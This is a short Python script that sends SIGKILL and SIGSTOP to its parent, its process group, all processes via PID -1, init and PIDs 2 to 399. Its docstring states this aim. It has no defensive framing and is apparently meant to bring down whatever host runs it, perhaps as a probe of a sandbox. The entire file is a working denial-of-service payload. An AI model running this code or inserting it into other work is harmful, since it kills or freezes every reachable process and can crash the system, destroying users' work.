"""Kill the parent, the group, and all processes."""

import os
import signal

for whom in (os.getppid(), 0, -1, 1, *range(2, 400)):
    if whom == os.getpid():
        continue
    for what in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(whom, what)
            print("killed", whom)
        except OSError:
            continue
